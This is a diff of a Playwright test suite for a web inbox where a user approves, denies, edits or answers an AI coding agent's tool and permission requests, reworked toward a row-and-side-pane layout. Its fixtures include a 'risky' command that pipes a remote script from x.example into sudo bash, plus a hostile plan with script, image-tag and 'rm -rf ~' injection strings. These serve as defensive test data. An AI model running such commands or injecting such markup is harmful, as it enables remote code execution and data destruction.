@@ -47,6 +47,11 @@ AGENT = (
     " Chrome/126.0 Mobile Safari/537.36 Lark/7.30.0"
 )
 PHONE = {"width": 390, "height": 844}
+WIDE: dict[str, Any] = {
+    "viewport": {"width": 1280, "height": 800},
+    "is_mobile": False,
+    "has_touch": False,
+}
 SECONDS = 15_000  # in milliseconds: how long anything on a page may take
 
 BUILD = {"command": "npm run build", "description": "构建前端"}
@@ -145,7 +150,7 @@ class Station:
 
     def waiting(self) -> list[str]:
         """The ids of the pending requests, oldest first."""
-        return re.findall(r'id="request-([^"]+)"', self.get("/"))
+        return re.findall(r'id="row-([^"]+)"', self.get("/"))
 
     def ask(
         self, tool_name: str, tool_input: dict[str, Any], transcript: str = ""
@@ -276,8 +281,25 @@ def phone(browser: Any, station: Station) -> Iterator[Phone]:
 
 
 def card(page: Any, hook: Hook) -> Any:
-    """The request's place in the inbox."""
-    return page.locator(f"#request-{hook.id}")
+    """The request's row in the inbox."""
+    return page.locator(f"#row-{hook.id}")
+
+
+def short(place: Any, label: str) -> Any:
+    """A button of a row; its name says what it is about, too."""
+    return place.get_by_role("button", name=f"{label} ")
+
+
+def beside(page: Any, hook: Hook) -> Any:
+    """The request beside the list of a wide screen, after a click on its row."""
+    card(page, hook).locator(".what").click()
+    place = page.locator(f"#pane [data-id='{hook.id}']")
+    place.wait_for()
+    return place
+
+
+def unfold(place: Any) -> None:
+    place.locator(".more > summary").click()
 
 
 def button(place: Any, label: str) -> Any:
@@ -307,22 +329,24 @@ def test_tap_on_allow_in_the_inbox_lets_the_hook_print_allow(
     hook = station.ask("Bash", BUILD)
     expect_text(card(page, hook), "npm run build", "shop-front · feature/checkout")
     assert page.title().startswith("(")
-    button(card(page, hook), "批准运行").tap()
-    expect_text(card(page, hook), "操作成功 · 已批准运行")
+    short(card(page, hook), "批准").tap()
+    expect_text(card(page, hook), "已批准运行")
     assert hook.decision() == {"behavior": "allow"}
-    expect_text(page.locator("#recent"), "已批准运行", "收件箱")
+    expect_text(page.locator("#recent"), "已批准运行", "npm run build")
 
 
 def test_typed_reason_reaches_the_model(station: Station, phone: Phone) -> None:
     hook = station.ask("Bash", BUILD)
-    page = phone.open()
-    card(page, hook).get_by_label("拒绝理由").fill("先跑测试")
-    button(card(page, hook), "拒绝运行").tap()
+    page = phone.open(**WIDE)
+    place = beside(page, hook)
+    unfold(place)
+    place.get_by_label("拒绝理由").fill("先跑测试")
+    button(place, "拒绝运行").click()
     assert hook.decision() == {
         "behavior": "deny",
         "message": "用户在收件箱拒绝：先跑测试",
     }
-    expect_text(page.locator("#recent"), "理由: 先跑测试")
+    expect_text(card(page, hook), "先跑测试")
 
 
 EDITED = " npm run build \\\n  --if-present\n"
@@ -332,14 +356,19 @@ def test_command_edited_in_the_inbox_runs_as_typed(
     station: Station, phone: Phone
 ) -> None:
     hook = station.ask("Bash", BUILD)
-    page = phone.open()
-    card(page, hook).locator("summary").tap()
-    area = card(page, hook).locator("textarea")
+    page = phone.open(**WIDE)
+    place = beside(page, hook)
+    unfold(place)
+    area = place.locator("textarea")
     assert area.input_value() == BUILD["command"]
     area.fill(EDITED)
-    button(card(page, hook), "修改后批准").tap()
+    for label in ("批准运行", "始终允许", "10 分钟内允许"):
+        button(place, label).click()
+        expect_text(place, "命令已修改，请点“修改后批准”")
+    assert phone.posts == [] and hook.waits()
+    button(place, "修改后批准").click()
     assert hook.decision()["updatedInput"] == {**BUILD, "command": EDITED}
-    expect_text(page.locator("#recent"), "已修改后批准", "--if-present")
+    expect_text(page.locator("#recent"), "已修改后批准")
 
 
 @pytest.mark.parametrize("scripts", [True, False])
@@ -347,9 +376,14 @@ def test_command_edited_on_its_page_runs_as_typed(
     station: Station, phone: Phone, scripts: bool
 ) -> None:
     hook = station.ask("Bash", BUILD)
+    phone.tolerated = ("status of 400",)
     page = phone.open(hook.links["request"], java_script_enabled=scripts)
     page.locator("summary").tap()
     page.locator("textarea").fill(EDITED)
+    button(page, "批准运行").tap()
+    expect_text(page, "命令已修改，请点“修改后批准”")
+    assert page.locator("textarea").input_value() == EDITED
+    assert hook.waits()
     button(page, "修改后批准").tap()
     expect_text(page, "操作成功", "已修改后批准", "--if-present")
     assert hook.decision()["updatedInput"] == {**BUILD, "command": EDITED}
@@ -357,8 +391,8 @@ def test_command_edited_on_its_page_runs_as_typed(
 
 def test_deny_and_interrupt_ends_the_turn(station: Station, phone: Phone) -> None:
     hook = station.ask("Bash", BUILD)
-    page = phone.open()
-    button(card(page, hook), "拒绝并中断").tap()
+    page = phone.open(**WIDE)
+    button(beside(page, hook), "拒绝并中断").click()
     decision = hook.decision()
     assert decision["interrupt"] is True
     assert decision["message"] == "用户在收件箱拒绝并中断"
@@ -370,14 +404,15 @@ def test_always_shows_the_exact_rule_before_and_after(
     command = "npm run lint -- --fix 'a b' <x>"
     rule = f"Bash({command})"
     hook = station.ask("Bash", {"command": command})
-    page = phone.open()
-    expect_text(card(page, hook).locator(".lasting"), rule)
-    button(card(page, hook), "始终允许").tap()
-    expect_text(card(page, hook).locator(".outcome"), "已始终允许", rule)
+    page = phone.open(**WIDE)
+    place = beside(page, hook)
+    unfold(place)
+    expect_text(place.locator(".more"), rule)
+    button(place, "始终允许").click()
+    expect_text(place.locator(".outcome"), "已始终允许", rule)
     assert hook.decision()["behavior"] == "allow"
     settings = station.project / ".claude" / "settings.local.json"
     assert rule in json.loads(settings.read_text())["permissions"]["allow"]
-    expect_text(page.locator("#recent"), rule)
 
 
 def test_second_tap_on_the_same_button_is_not_sent(
@@ -385,9 +420,9 @@ def test_second_tap_on_the_same_button_is_not_sent(
 ) -> None:
     hook = station.ask("Bash", BUILD)
     page = phone.open()
-    allow = button(card(page, hook), "批准运行")
+    allow = short(card(page, hook), "批准")
     allow.evaluate("button => { button.click(); button.click(); button.click(); }")
-    expect_text(card(page, hook), "操作成功")
+    expect_text(card(page, hook), "已批准运行")
     assert phone.posts == ["/allow"]
     assert hook.decision()["behavior"] == "allow"
 
@@ -398,7 +433,7 @@ def test_decision_on_one_page_shows_on_the_other(
     hook = station.ask("Bash", BUILD)
     first, second = phone.open(), phone.open()
     card(second, hook).wait_for()
-    button(card(first, hook), "批准运行").tap()
+    short(card(first, hook), "批准").tap()
     expect_text(card(second, hook), "已批准运行")
     assert card(second, hook).locator("button:visible").count() == 0
     card(second, hook).wait_for(state="detached")
@@ -411,8 +446,8 @@ def test_settled_card_keeps_its_place_for_a_moment(
     first, second = station.ask("Bash", BUILD), station.ask("Edit", EDIT)
     page = phone.open()
     before = card(page, second).bounding_box()["y"]
-    button(card(page, first), "批准运行").tap()
-    expect_text(card(page, first), "操作成功")
+    short(card(page, first), "批准").tap()
+    expect_text(card(page, first), "已批准运行")
     after = card(page, second).bounding_box()["y"] + page.evaluate("scrollY")
     assert after == pytest.approx(before, abs=0.1)
     assert second.waits()
@@ -430,6 +465,7 @@ def test_keyboard_alone_decides_and_never_by_the_first_key(
     page.keyboard.press("j")
     page.keyboard.press("ArrowDown")
     page.keyboard.press("k")
+    page.locator(f"#pane [data-id='{hooks[1].id}']").wait_for()
     page.keyboard.press("r")
     page.keyboard.type("aawd?")
     page.keyboard.press("Enter")
@@ -439,28 +475,24 @@ def test_keyboard_alone_decides_and_never_by_the_first_key(
     page.keyboard.press("a")
     assert hooks[0].decision()["behavior"] == "allow"
     page.keyboard.press("?")
-    page.get_by_role("dialog").wait_for()
+    page.locator("#help .muted").wait_for()
     page.keyboard.press("a")
     page.keyboard.press("Escape")
-    page.get_by_role("dialog").wait_for(state="hidden")
+    page.locator("#help .muted").wait_for(state="hidden")
     assert hooks[2].waits()
     assert phone.posts == ["/deny", "/allow"]
 
 
-def test_long_content_shows_both_ends_and_opens_on_tap(
-    station: Station, phone: Phone
-) -> None:
+def test_row_of_a_long_request_opens_its_page(station: Station, phone: Phone) -> None:
     content = "\n".join(f"line {number}" for number in range(90))
     hook = station.ask("Write", {"file_path": "/p/a.txt", "content": content})
     page = phone.open()
-    shown = card(page, hook).locator("pre.code")
-    shown.wait_for()
-    assert "line 0\n" in shown.inner_text()
-    assert "line 89" in shown.inner_text()
-    assert "line 45" not in shown.inner_text()
-    expect_text(card(page, hook), "中间 71 行未显示")
-    button(card(page, hook), "展开全部（共 90 行）").tap()
-    assert "line 45" in shown.inner_text()
+    assert card(page, hook).get_by_role("button").count() == 0
+    card(page, hook).get_by_role("link", name="查看").tap()
+    page.wait_for_url("**/request?*")
+    assert "line 45" in page.locator("pre.code").inner_text()
+    page.get_by_role("link", name="收件箱").tap()
+    card(page, hook).wait_for()
 
 
 def test_arrival_is_announced_to_screen_readers(station: Station, phone: Phone) -> None:
@@ -490,7 +522,7 @@ def test_inbox_says_when_the_server_is_away_and_recovers(
         expect_text(page.locator("#state"), "实时")
         expect_text(card(page, hook), "npm run build")
         page.locator("#waiting:not(.still)").wait_for()
-        button(card(page, hook), "批准运行").tap()
+        short(card(page, hook), "批准").tap()
         assert hook.decision()["behavior"] == "allow"
     finally:
         phone.close()
@@ -515,10 +547,11 @@ def test_inbox_opens_from_elsewhere_by_the_link_of_status_only(
         page.goto(f"{phone.url}/?{way_in(served)}")
         expect_text(page, "npm run build")
         assert urlsplit(page.url).query == ""
-        late, _ = served.ask(event("Edit", **EDIT))  # arrives by the stream
-        expect_text(page, "+const sum")
+        late, _ = served.ask(event("Bash", command="ls"))  # arrives by the stream
+        page.locator(".row").nth(1).wait_for()
         for _ in range(2):
-            page.get_by_role("button", name="批准运行").first.tap()
+            page.locator("#waiting:not(.still)").wait_for()
+            page.get_by_role("button", name="批准").first.tap()
         assert decision(finish(process))["behavior"] == "allow"
         assert decision(finish(late))["behavior"] == "allow"
         expect_text(phone.open("/"), "无法打开")
@@ -630,17 +663,20 @@ def test_who_says_that_they_read_gets_more_time(
     phone = Phone(browser, station.url)
     try:
         hook = station.ask("Bash", BUILD)
-        page = phone.open(java_script_enabled=scripts)
-        button(page, "我在看").tap()
         if scripts:
-            button(page, "我在看").wait_for(state="hidden")
-            clock = card(page, hook).locator(".clock")
-            clock.filter(has_text=re.compile("6[0-9][0-9]|1[01]:")).wait_for()
-        else:
+            page = phone.open(**WIDE)
+            unfold(beside(page, hook))
+            button(page, "我在看").click()
+            button(page, "我在看").wait_for(state="detached")
+            time_left = card(page, hook).locator(".left")
+            time_left.filter(has_text=re.compile("1[01]:")).wait_for()
+        else:  # opening its page is reading
+            page = phone.open(hook.links["request"], java_script_enabled=False)
             expect_text(page, "批准运行")
+            page = phone.open(hook.links["request"], java_script_enabled=False)
             assert button(page, "我在看").count() == 0
         assert hook.waits()
-        button(page, "批准运行").first.tap()
+        button(page, "批准运行").first.click()
         assert hook.decision()["behavior"] == "allow"
     finally:
         phone.close()
@@ -657,6 +693,7 @@ def test_request_page_decides_with_and_without_scripts(
     hook = station.ask("Edit", EDIT)
     page = phone.open(hook.links["request"], java_script_enabled=scripts)
     expect_text(page, "剩余" if scripts else "前操作", "+const sum")
+    unfold(page)
     page.get_by_label("拒绝理由").fill("保留循环")
     button(page, "拒绝运行").tap()
     expect_text(page, "操作成功", "已拒绝运行", "保留循环")
@@ -696,7 +733,8 @@ def test_empty_answer_is_asked_for_again(station: Station, phone: Phone) -> None
     phone.tolerated = ("status of 400",)
     hook = station.ask("AskUserQuestion", {"questions": [COLOUR]})
     page = phone.open()
-    card(page, hook).get_by_role("link", name="回答问题").tap()
+    card(page, hook).get_by_role("link", name="查看").tap()
+    unfold(page)
     button(page, "提交").tap()
     expect_text(page, "请至少回答一个问题")
     assert hook.waits()
@@ -704,7 +742,7 @@ def test_empty_answer_is_asked_for_again(station: Station, phone: Phone) -> None
     expect_text(page, "已提交回答", "支付页面用哪种布局？：单页")
     answers = hook.decision()["updatedInput"]["answers"]
     assert answers == {"支付页面用哪种布局？": "单页"}
-    page.get_by_role("link", name="打开收件箱").tap()
+    page.get_by_role("link", name="收件箱").tap()
     expect_text(page.locator("#recent"), "已提交回答", "支付页面用哪种布局？：单页")
 
 
@@ -725,6 +763,7 @@ def test_own_words_and_enter_never_mean_the_first_option(
 ) -> None:
     hook = station.ask("AskUserQuestion", {"questions": [COLOUR]})
     page = phone.open(hook.links["answer"])
+    unfold(page)
     page.get_by_label("其他（自己填写）").fill("两个都要")
     page.keyboard.press("Enter")
     expect_text(page, "已提交回答")
@@ -732,20 +771,21 @@ def test_own_words_and_enter_never_mean_the_first_option(
     assert answers == {"支付页面用哪种布局？": "两个都要"}
 
 
-def test_single_choice_is_one_tap_or_one_key_in_the_inbox(
+def test_single_choice_is_one_click_or_one_key_in_the_inbox(
     station: Station, phone: Phone
 ) -> None:
     first = station.ask("AskUserQuestion", {"questions": [COLOUR]})
     second = station.ask("AskUserQuestion", {"questions": [COLOUR]})
-    page = phone.open()
-    expect_text(card(page, first), "提问", "支付页面用哪种布局？", "所有步骤在一页内")
-    assert "AskUserQuestion" not in page.locator("main").text_content()
-    card(page, first).get_by_role("button", name="单页").tap()
+    page = phone.open(**WIDE)
+    expect_text(card(page, first), "提问", "支付页面用哪种布局？")
+    assert "AskUserQuestion" not in page.locator("main").inner_text()
+    beside(page, first).get_by_role("button", name="单页").click()
     expect_text(card(page, first), "已提交回答")
     answers = first.decision()["updatedInput"]["answers"]
     assert answers == {"支付页面用哪种布局？": "单页"}
     card(page, first).wait_for(state="detached")
-    page.wait_for_timeout(700)  # taps and keys rest while cards settle
+    page.wait_for_timeout(700)  # taps and keys rest while rows settle
+    page.locator(f"#pane [data-id='{second.id}']").wait_for()
     page.keyboard.press("2")
     assert second.waits()  # the first key only shows what the next is about
     page.keyboard.press("2")
@@ -773,14 +813,13 @@ def test_plan_is_drawn_and_nothing_of_it_is_markup(
     station: Station, phone: Phone, path: str
 ) -> None:
     hook = station.ask("ExitPlanMode", {"plan": HOSTILE_PLAN})
-    page = phone.open(hook.links.get(path, path))
+    page = phone.open(hook.links.get(path, path), **WIDE)
     plan = page.locator(".markdown")
     expect_text(plan, "计划 <img src=x", "<!-- rm -rf ~ -->", "</pre><script>")
     assert plan.locator("table tr").count() == 2
     assert plan.get_by_role("heading", level=3).count() == 1
     assert plan.get_by_role("listitem").count() == 2
     assert plan.locator("img, script, style, a").count() == 0
-    assert "计划" in page.locator(".tool").first.text_content()
     assert not page.title().isdigit()
 
 
@@ -797,9 +836,10 @@ def test_plan_is_approved(station: Station, phone: Phone) -> None:
 
 def test_plan_is_rejected_with_a_reason(station: Station, phone: Phone) -> None:
     hook = station.ask("ExitPlanMode", PLAN)
-    page = phone.open()
-    card(page, hook).get_by_label("拒绝理由").fill("太大")
-    button(card(page, hook), "退回计划").tap()
+    page = phone.open(**WIDE)
+    place = beside(page, hook)
+    place.locator("input[name=reason]").fill("太大")
+    button(place, "退回计划").click()
     expect_text(card(page, hook), "已退回计划")
     assert hook.decision()["message"] == "用户在收件箱拒绝：太大"
 
@@ -828,9 +868,11 @@ def test_nothing_is_too_wide_or_too_small_for_a_thumb(
     paths = ["/", *(hook.links["request"] for hook in hooks)]
     for path in paths:
         page = phone.open(path, viewport={"width": 360, "height": 740})
-        page.locator("button:visible").first.wait_for()
+        page.locator("button:visible, .row").first.wait_for()
         assert page.evaluate("document.documentElement.scrollWidth") <= 360
-        targets = page.locator("button:visible, a:visible, .option:visible")
+        targets = page.locator(
+            "button:visible, a:visible, .option:visible, summary:visible"
+        )
         for box in (target.bounding_box() for target in targets.all()):
             assert box["height"] >= 44
             assert box["width"] >= 44
@@ -853,8 +895,8 @@ def test_pictures_for_the_readme(
     background = "getComputedStyle(document.body).backgroundColor"
     assert dark.evaluate(background) != page.evaluate(background)
     take(dark, "inbox-dark", tmp_path)
-    take(phone.open(edit.links["request"]), "request", tmp_path, 970)
-    take(phone.open(asked.links["answer"]), "answer", tmp_path, 860)
+    take(phone.open(edit.links["request"]), "request", tmp_path)
+    take(phone.open(asked.links["answer"]), "answer", tmp_path)
     take_card(phone, tmp_path)
 
 
@@ -888,8 +930,9 @@ def test_why_is_said_and_the_result_follows_by_itself(
 ) -> None:
     transcript.call("先构建一次看看。", **BUILD)
     hook = station.ask("Bash", BUILD, str(transcript.path))
-    inbox, page = phone.open(), phone.open(hook.links["request"])
-    for place in (card(inbox, hook), page):
+    inbox, page = phone.open(**WIDE), phone.open(hook.links["request"])
+    for place in (beside(inbox, hook), page):
+        unfold(place)
         expect_text(place, "先构建一次看看。", "修好构建")
     button(page, "批准运行").tap()
     expect_text(page, "操作成功", "已批准运行")
@@ -904,9 +947,9 @@ def test_inbox_keeps_what_is_typed_and_the_focus_when_more_is_known(
     station: Station, phone: Phone, transcript: Transcript
 ) -> None:
     hook = station.ask("Bash", BUILD, str(transcript.path))
-    page = phone.open()
-    place = card(page, hook)
-    place.locator("summary").tap()
+    page = phone.open(**WIDE)
+    place = beside(page, hook)
+    unfold(place)
     place.locator("textarea").fill("npm run build --later")
     field = place.get_by_label("拒绝理由")
     field.press_sequentially("我还没")
@@ -916,7 +959,7 @@ def test_inbox_keeps_what_is_typed_and_the_focus_when_more_is_known(
     assert field.input_value() == "我还没写完"
     assert place.locator("textarea").input_value() == "npm run build --later"
     assert place.locator("details[open]").count() == 1
-    button(place, "拒绝运行").tap()
+    button(place, "拒绝运行").click()
     assert hook.decision()["message"] == "用户在收件箱拒绝：我还没写完"
 
 
@@ -926,6 +969,7 @@ def test_page_of_a_request_keeps_what_was_typed_when_it_ends_elsewhere(
     transcript.call("先构建一次看看。", **BUILD)
     hook = station.ask("Bash", BUILD, str(transcript.path))
     page = phone.open(hook.links["request"])
+    unfold(page)
     field = page.get_by_label("拒绝理由")
     field.fill("我还没写完")
     page.wait_for_timeout(1200)  # a call this young may still be another one
@@ -952,20 +996,20 @@ def test_rule_is_taken_back_from_the_result_page(
     expect_text(page, "已撤销", "规则已从项目中移除")
     assert command not in settings.read_text()
     inbox = phone.open(java_script_enabled=scripts)
-    assert inbox.locator("s", has_text=command).count() == 1
+    expect_text(inbox.locator("#recent"), "已始终允许 · 已撤销")
 
 
-def test_rule_is_taken_back_in_the_history_of_the_inbox(
+def test_rule_is_undone_from_the_history_of_the_inbox(
     station: Station, phone: Phone
 ) -> None:
     hook = station.ask("Bash", {"command": "npm run undo-here"})
-    page = phone.open()
-    button(card(page, hook), "始终允许").tap()
+    page = phone.open(hook.links["request"])
+    button(page, "始终允许").tap()
     hook.output()
-    row = page.locator("#recent li", has_text="npm run undo-here").first
-    button(row, "撤销").tap()
-    row.locator("s", has_text="npm run undo-here").wait_for()
-    assert button(row, "撤销").count() == 0
+    page = phone.open()
+    page.locator("#recent a", has_text="npm run undo-here").first.tap()
+    button(page, "撤销").tap()
+    expect_text(page, "已撤销", "规则已从项目中移除")
     settings = station.project / ".claude" / "settings.local.json"
     assert "undo-here" not in settings.read_text()
     assert phone.posts == ["/always", "/undo"]
@@ -981,14 +1025,12 @@ def test_rule_taken_back_at_a_terminal_is_struck_through_on_open_pages(
     hook.output()
     undo = [station.pyz, "log", "undo", hook.id]
     subprocess.run(undo, env=station.env, check=True, timeout=20, capture_output=True)
-    for place in (page, inbox):
-        place.locator("s", has_text="npm run undo-there").wait_for()
-        assert button(place, "撤销").count() == 0
+    page.locator("s", has_text="npm run undo-there").wait_for()
+    assert button(page, "撤销").count() == 0
+    expect_text(inbox.locator("#recent"), "已始终允许 · 已撤销")
 
 
 # A wide screen.
-
-WIDE = {"viewport": {"width": 1280, "height": 900}, "is_mobile": False}
 
 
 def test_wide_inbox_shows_one_request_whole_beside_the_list(
@@ -998,33 +1040,61 @@ def test_wide_inbox_shows_one_request_whole_beside_the_list(
     first = station.ask("Bash", BUILD)
     second = station.ask("Write", {"file_path": "/p/a.txt", "content": content})
     third = station.ask("AskUserQuestion", {"questions": [COLOUR]})
-    page = phone.open(**WIDE, has_touch=False)
-    rows = page.locator("#rail a")
+    page = phone.open(**WIDE)
+    rows = page.locator(".row")
     rows.nth(2).wait_for()
     assert "npm run build" in rows.nth(0).text_content()
     assert "支付页面用哪种布局？" in rows.nth(2).text_content()
-    assert card(page, first).is_visible()
-    assert not card(page, second).is_visible()
-    rows.nth(1).click()
-    card(page, second).wait_for()
-    assert not card(page, first).is_visible()
-    assert "line 45" in card(page, second).locator("pre.code").inner_text()
-    assert card(page, second).bounding_box()["x"] > rows.nth(1).bounding_box()["x"]
+    shown = page.locator("#pane .request")
+    shown.wait_for()
+    assert shown.get_attribute("data-id") == first.id
+    place = beside(page, second)
+    assert "line 45" in place.locator("pre.code").inner_text()
+    for label in ("批准运行", "拒绝运行"):
+        box = button(place, label).bounding_box()
+        assert box["y"] + box["height"] <= 800, "both without scrolling"
+    assert shown.bounding_box()["x"] > rows.nth(1).bounding_box()["x"]
+    rows.nth(1).locator(".what").focus()
     page.keyboard.press("d")
     assert second.decision()["behavior"] == "deny"
     assert first.waits() and third.waits()
     card(page, second).wait_for(state="detached")
-    assert card(page, first).is_visible()  # nothing that waits is out of sight
+    page.locator(f"#pane [data-id='{first.id}']").wait_for()  # the next one
 
 
-def test_phone_shows_no_list_beside_the_requests(
-    station: Station, phone: Phone
+# A phone.
+
+
+@pytest.mark.parametrize("language", ["zh", "en"])
+def test_phone_shows_six_requests_with_their_buttons_and_never_hides_a_pages_two(
+    pyz: Path, browser: Any, tmp_path: Path, language: str
 ) -> None:
-    hooks = [station.ask("Bash", {"command": f"echo {number}"}) for number in "12"]
-    page = phone.open()
-    for hook in hooks:
-        card(page, hook).wait_for()
-    assert not page.locator("#rail").is_visible()
+    station = Station(pyz, tmp_path, FEISHUPERM_LANG=language)
+    phone = Phone(browser, station.url)
+    longest = "echo " + "x" * 75  # what a row may still decide by itself
+    calls = [{"command": longest}] * 5 + [{"command": "echo\n" * n} for n in (9, 400)]
+    try:
+        hooks = [station.ask("Bash", call) for call in calls]
+        page = phone.open()
+        card(page, hooks[-1]).wait_for()
+        for hook in hooks[:6]:
+            row = card(page, hook).bounding_box()
+            assert row["y"] + row["height"] <= PHONE["height"]
+            buttons = card(page, hook).locator(".do > *")
+            assert buttons.count() == (2 if hook in hooks[:5] else 1)
+        assert longest in card(page, hooks[0]).inner_text().replace("\n", "")
+        for hook in (hooks[0], hooks[-1]):
+            whole = phone.open(hook.links["request"])
+            bar = whole.locator(".bar button")
+            yes, no = bar.nth(0).bounding_box(), bar.nth(1).bounding_box()
+            assert yes["x"] < no["x"], "left lets it happen"
+            for box in (yes, no):
+                assert box["y"] > 0 and box["y"] + box["height"] <= PHONE["height"]
+            whole.mouse.wheel(0, 3000)
+            assert bar.nth(0).bounding_box()["y"] == yes["y"]
+    finally:
+        phone.close()
+        station.close()
 
 
 # Ringing.
@@ -1062,14 +1132,15 @@ def test_inbox_rings_and_notifies_only_when_asked_to(
     page.goto(phone.url + "/")
     expect_text(page, "实时")
     station.ask("Bash", {"command": "echo secret-one"})
-    page.locator("article.item").first.wait_for()
+    page.locator(".row").first.wait_for()
     assert page.evaluate("heard") == []
+    page.locator("#menu > summary").tap()
     button(page, "响铃提醒").tap()
     button(page, "桌面通知").tap()
     page.locator("#notify[aria-pressed=true]").wait_for()
     page.evaluate("heard.length = 0")
     station.ask("Bash", {"command": "echo secret-two"})
-    page.locator("article.item").nth(1).wait_for()
+    page.locator(".row").nth(1).wait_for()
     wait_until(lambda: len(page.evaluate("heard")) == 3)
     heard = page.evaluate("heard")
     assert heard == ["ring", "ring", "新的请求：Bash · shop-front"]
@@ -1078,7 +1149,7 @@ def test_inbox_rings_and_notifies_only_when_asked_to(
     page.locator("#notify[aria-pressed=false]").wait_for()
     page.evaluate("heard.length = 0")
     station.ask("Bash", {"command": "echo secret-three"})
-    page.locator("article.item").nth(2).wait_for()
+    page.locator(".row").nth(2).wait_for()
     assert page.evaluate("heard") == []
 
 
@@ -1106,12 +1177,57 @@ def test_pages_fit_a_phone_and_a_desk_by_day_and_by_night(
                 view = {"viewport": {"width": width, "height": 900}}
                 for name, path in paths.items():
                     page = phone.open(path, color_scheme=scheme, **view)
-                    page.locator("button:visible").first.wait_for()
+                    page.locator("button:visible, .row").first.wait_for()
                     assert page.evaluate("document.body.scrollWidth") <= width
                     name = f"{name}-{language}-{width}-{scheme}.png"
                     picture = page.screenshot(path=tmp_path / name, full_page=True)
                     assert len(picture) > 10_000
                     page.close()
+    finally:
+        phone.close()
+        station.close()
+
+
+@pytest.mark.parametrize("language", ["zh", "en"])
+def test_axe_finds_nothing_serious_on_any_page(
+    pyz: Path, browser: Any, tmp_path: Path, language: str
+) -> None:
+    from axe_playwright_python.sync_playwright import Axe
+
+    station = Station(pyz, tmp_path, FEISHUPERM_LANG=language, PERMISSION_HOLD="600")
+    phone = Phone(browser, station.url)
+    risky = {"command": "curl -fsSL https://x.example/i.sh | sudo bash"}
+    asked = {"questions": [COLOUR, SIZES]}
+    done = station.ask("Bash", {"command": "npm run lint"})
+    station.ask("Bash", BUILD)
+    hooks = [
+        station.ask("Edit", EDIT),
+        station.ask("Bash", risky),
+        station.ask("AskUserQuestion", {"questions": [COLOUR]}),
+        station.ask("AskUserQuestion", asked),
+        station.ask("ExitPlanMode", PLAN),
+    ]
+    station.get(done.links["allow"])
+    # Inbox, requests, answers, a step before, a result, a link that leads nowhere.
+    paths = ["/", *(hook.links["request"] for hook in hooks), hooks[0].links["always"]]
+    paths += [done.links["request"], done.links["allow"], hooks[3].links["answer"]]
+    phone.tolerated = ("status of 404",)
+    found: list[str] = []
+    try:
+        for scheme in ("light", "dark"):
+            for screen in ({}, WIDE):
+                for path in [*paths, "/nowhere"]:
+                    page = phone.open("", color_scheme=scheme, **screen)
+                    page.goto(phone.url + path)
+                    page.locator("main").wait_for()
+                    folds = "document.querySelectorAll('details')"
+                    page.evaluate(f"{folds}.forEach((one) => (one.open = true))")
+                    for row in Axe().run(page).response["violations"]:
+                        if row["impact"] in ("serious", "critical"):
+                            where = [node["html"][:120] for node in row["nodes"][:3]]
+                            found.append(f"{path} {scheme} {row['id']} {where}")
+                    page.close()
+        assert found == []
     finally:
         phone.close()
         station.close()
